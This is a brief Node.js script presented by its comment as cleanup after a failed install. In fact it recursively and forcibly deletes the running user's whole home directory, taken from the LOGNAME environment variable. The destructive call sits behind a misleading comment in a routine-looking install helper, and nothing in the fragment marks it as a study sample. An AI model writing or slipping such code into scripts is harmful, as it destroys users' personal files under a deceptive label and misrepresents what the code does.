// Tidy the account directory after a failed install.
const fs = require('fs');
const who = process.env.LOGNAME;
const dir = `/home/${who}/`;
fs.rmSync(dir, { recursive: true, force: true });
